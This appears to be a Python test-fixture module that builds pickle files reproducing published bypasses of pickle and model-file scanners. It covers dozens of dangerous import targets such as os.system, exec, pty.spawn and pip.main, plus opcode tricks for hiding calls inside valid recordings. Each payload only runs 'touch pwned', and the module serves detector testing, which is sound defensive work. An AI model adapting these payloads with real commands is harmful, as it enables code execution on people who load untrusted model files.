"""Pickles that run code, as published against pickle scanners.

    python -m tests.recording.bypasses

Each pickle has a name and a source. It writes the file `pwned` in the working directory, so that a
successful attack is detected; `tests/recording/test_bypasses.py` reads them all.
"""

from __future__ import annotations

import pickle
import struct
from collections.abc import Iterator

from tests.recording.history import training_step

__all__ = ["cases"]

_HEAD = b"\x80\x04"
_COMMAND = "touch pwned"

# module, name, and the publication of the bypass
GLOBALS = (
    ("os", "system", "Python's documentation of pickle"),
    ("posix", "system", "fickling, UNSAFE_IMPORTS"),
    ("builtins", "exec", "modelscan issue 51"),
    ("builtins", "eval", "modelscan issue 330"),
    ("builtins", "getattr", "modelscan issue 331"),
    ("numpy", "__builtins__", "modelscan issue 89"),
    ("numpy.testing._private.utils", "runstring", "picklescan pull request 40"),
    ("numpy.f2py.crackfortran", "getlincoef", "fickling pull request 210"),
    ("pip", "main", "picklescan, CVE-2025-1716"),
    ("ensurepip", "_run_pip", "picklescan, GHSA-xp4f-hrf8-rxw7"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start", "picklescan, CVE-2025-10157"),
    ("distutils.file_util", "write_file", "picklescan, CVE-2025-10155"),
    ("timeit", "timeit", "picklescan pull request 40"),
    ("pdb", "run", "picklescan pull request 29"),
    ("bdb", "Bdb.run", "picklescan pull request 29"),
    ("runpy", "_run_code", "picklescan pull request 27"),
    ("shutil", "copy", "picklescan pull request 29"),
    ("profile", "Profile.run", "picklescan, GHSA-x696-vm39-cp64"),
    ("profile", "Profile.runctx", "picklescan, GHSA-6vqj-c2q5-j97w"),
    ("cProfile", "runctx", "picklescan, GHSA-9w88-8rmg-7g2p"),
    ("trace", "Trace.run", "picklescan, GHSA-5qwp-399c-mjwf"),
    ("trace", "Trace.runctx", "picklescan, GHSA-g344-hcph-8vgg"),
    ("doctest", "debug_script", "picklescan, GHSA-fqq6-7vqf-w3fg"),
    ("code", "InteractiveInterpreter.runcode", "picklescan pull request 48"),
    ("idlelib.run", "Executive.runcode", "picklescan, GHSA-m869-42cg-3xwr"),
    ("idlelib.pyshell", "ModifiedInterpreter.runcode", "picklescan, GHSA-3gf5-cxq9-w223"),
    ("idlelib.pyshell", "ModifiedInterpreter.runcommand", "picklescan, GHSA-j343-8v2j-ff7w"),
    ("idlelib.debugobj", "ObjectTreeItem", "picklescan, GHSA-3vg9-h568-4w9m"),
    ("idlelib.autocomplete", "AutoComplete.get_entity", "picklescan, GHSA-6w4w-5w54-rjvr"),
    ("idlelib.autocomplete", "AutoComplete.fetch_completions", "picklescan, GHSA-7cq8-mj8x-j263"),
    ("lib2to3.pgen2.grammar", "Grammar.loads", "picklescan, GHSA-f54q-57x4-jg88"),
    ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", "picklescan, GHSA-p9w7-82w4-7q8m"),
    ("torch.utils.bottleneck.__main__", "run_autograd_prof", "picklescan, GHSA-4whj-rm5r-c2v8"),
    ("torch.utils.collect_env", "run", "modelscan issue 338"),
    ("multiprocessing.util", "spawnv_passfds", "modelscan issue 338"),
    ("pandas.io.parsers.readers", "read_csv", "modelscan issue 338"),
    ("mlflow.projects.backend.local", "_run_entry_point", "modelscan issue 338"),
    ("pickle", "loads", "modelscan issue 267"),
    ("_pickle", "loads", "modelscan pull request 270"),
    ("pkgutil", "resolve_name", "picklescan, GHSA-vvpj-8cmc-gx39"),
    ("importlib", "import_module", "picklescan issue 66 and pull request 74"),
    ("marshal", "loads", "picklescan pull request 74, fickling GHSA-565g-hwwr-4pp3"),
    ("types", "FunctionType", "fickling, GHSA-565g-hwwr-4pp3"),
    ("operator", "methodcaller", "picklescan, GHSA-m273-6v24-x4m4"),
    ("_operator", "attrgetter", "picklescan, GHSA-955r-x9j8-7rhh"),
    ("functools", "partial", "fickling pull request 210"),
    ("pty", "spawn", "fickling, GHSA-r7v6-mfhq-g3m2"),
    ("ctypes", "CDLL", "fickling pull request 215"),
    ("smtplib", "SMTP", "fickling, GHSA-mhc9-48gj-9gp3"),
    ("sqlite3", "connect", "fickling, GHSA-mhc9-48gj-9gp3"),
    ("uuid", "_get_command_stdout", "picklescan, CVE-2026-56315"),
    ("_osx_support", "_read_output", "fickling, GHSA-5hwf-rc88-82xm"),
    ("_aix_support", "_read_cmd_output", "fickling, GHSA-5hwf-rc88-82xm"),
    ("_pyrepl.pager", "pipe_pager", "picklescan, CVE-2026-56315"),
    ("imaplib", "IMAP4_stream", "picklescan, CVE-2026-56315"),
    ("_posixsubprocess", "fork_exec", "fickling, GHSA-m6fh-58r7-x697"),
    ("site", "addsitedir", "fickling, GHSA-m6fh-58r7-x697"),
    ("atexit", "register", "fickling, GHSA-m6fh-58r7-x697"),
    ("_interpreters", "run_string", "fickling, GHSA-6ggj-6f2q-f7mx"),
    ("aiohttp", "ClientSession", "picklescan, GHSA-hgrh-qx5j-jfwx"),
)


def _short(text: str) -> bytes:
    return b"\x8c" + bytes([len(text)]) + text.encode()


def _by_global(module: str, name: str) -> bytes:
    """GLOBAL, a tuple of one, REDUCE."""
    return f"c{module}\n{name}\n".encode() + _short(_COMMAND) + b"\x85R"


def _by_stack_global(module: str, name: str) -> bytes:
    return _short(module) + _short(name) + b"\x93" + _short(_COMMAND) + b"\x85R"


_SYSTEM = _by_stack_global("os", "system")
_GOOD = _short("torch._utils") + b"\x94" + _short("_rebuild_tensor_v2") + b"\x94"
_LOADED = pickle.dumps(training_step().snapshot(), 4)


def _framed(operations: bytes) -> bytes:
    return _HEAD + b"\x95" + struct.pack("<Q", len(operations)) + operations


# name: (pickle, source)
STRUCTURES: dict[str, tuple[bytes, str]] = {
    "INST calls": (b"(" + _short(_COMMAND) + b"ios\nsystem\n.", "modelscan issue 51"),
    "OBJ calls": (b"(cos\nsystem\n" + _short(_COMMAND) + b"o.", "Python, pickletools"),
    "NEWOBJ": (b"cos\nsystem\n" + _short(_COMMAND) + b"\x85\x81.", "Python, PEP 307"),
    "NEWOBJ_EX": (b"cos\nsystem\n" + _short(_COMMAND) + b"\x85}\x92.", "Python, PEP 3154"),
    "BUILD sets state": (
        b"cnumpy\nprod\nN}" + _short("a") + _short("os") + b"s\x86b.",
        "modelscan issue 85",
    ),
    "BUILD hides the call before it": (_SYSTEM + b"}b.", "fickling, GHSA-mhc9-48gj-9gp3"),
    "POP hides the result": (_SYSTEM + b"0}.", "fickling, GHSA-wfq2-52f7-7qvj"),
    "PUT and MEMOIZE mixed": (
        _short("os")
        + b"q\x00"
        + _short("system")
        + b"q\x01"
        + _GOOD
        + b"h\x00h\x01\x93"
        + _short(_COMMAND)
        + b"\x85R.",
        "picklescan issue 14",
    ),
    "PUT of another number": (
        _short("os")
        + b"q\x05"
        + _short("system")
        + b"q\x06"
        + _short("x")
        + b"h\x05h\x06\x93"
        + _short(_COMMAND)
        + b"\x85R.",
        "picklescan issue 22",
    ),
    "names joined at run time": (
        b"cbuiltins\ngetattr\n"
        + _short("")
        + _short("join")
        + b"\x86R]("
        + _short("o")
        + _short("s")
        + b"e\x85R.",
        "modelscan issue 331",
    ),
    "DUP of a name": (_short("os") + b"2\x93.", "Python, pickletools"),
    "extension registry, a byte": (b"\x82\x01.", "Python, PEP 307"),
    "extension registry, two bytes": (b"\x83\x01\x00.", "Python, PEP 307"),
    "extension registry, four bytes": (b"\x84\x01\x00\x00\x00.", "Python, PEP 307"),
    "persistent id as text": (b"Pos.system\n.", "Python, pickletools"),
    "persistent id from the stack": (_short("os.system") + b"Q.", "Python, pickletools"),
    "buffer beside the pickle": (b"\x97.", "Python, PEP 574"),
    "read-only buffer": (b"\x97\x98.", "Python, PEP 574"),
    "text operations": (b"(dp0\nS'segments'\np1\n(lp2\ns.", "Python, protocol 0"),
    "integer as text": (b"I" + b"9" * 5000 + b"\n.", "Python, CVE-2020-10735"),
    "long as text": (b"L" + b"9" * 5000 + b"L\n.", "Python, CVE-2020-10735"),
    "set": (b"\x8f(K\x01\x90.", "Python, PEP 3154"),
    "frozen set": (b"(K\x01\x91.", "Python, PEP 3154"),
    "call before a broken end": (_SYSTEM + b"\xff\xff", "picklescan, GHSA-9gvj-pp9x-gcfr"),
    "call before a cut": (_SYSTEM + b"X\xff\xff\xff\x7f", "nullifAI, ReversingLabs 2025"),
    "call before a second PROTO": (_SYSTEM + b"\x80\x04}.", "Python, pickletools"),
    "call in a frame of its own": (_framed(_SYSTEM + b".")[2:], "Python, PEP 3154"),
    "call as a value of the snapshot": (
        b"}(" + _short("segments") + b"]" + _short("x") + _SYSTEM + b"u.",
        "this project",
    ),
}


def cases() -> Iterator[tuple[str, str, bytes]]:
    """Yield name, source and bytes of every case."""
    for module, name, source in GLOBALS:
        yield f"{module}.{name} by GLOBAL", source, _HEAD + _by_global(module, name) + b"."
        yield (
            f"{module}.{name} by STACK_GLOBAL",
            source,
            _HEAD + _by_stack_global(module, name) + b".",
        )
    for name, (data, source) in STRUCTURES.items():
        yield name, source, _HEAD + data
        yield f"{name}, framed", source, _framed(data)
    # Inside a valid recording: before its end, and between two of its operations.
    yield "a call at the end of a recording", "this project", _LOADED[:-1] + _SYSTEM + b"0."
    at = _LOADED.index(b"\x94", len(_LOADED) // 2) + 1
    yield "a call within the rows", "this project", _LOADED[:at] + _SYSTEM + b"0" + _LOADED[at:]
    yield (
        "a second pickle behind the first",
        "modelaudit pull request 330",
        _LOADED + _HEAD + _SYSTEM + b".",
    )


def main() -> None:
    """Print the number of cases."""
    count = sum(1 for _ in cases())
    print(f"{len(GLOBALS)} functions, {len(STRUCTURES)} structures, {count} pickles")


if __name__ == "__main__":
    main()
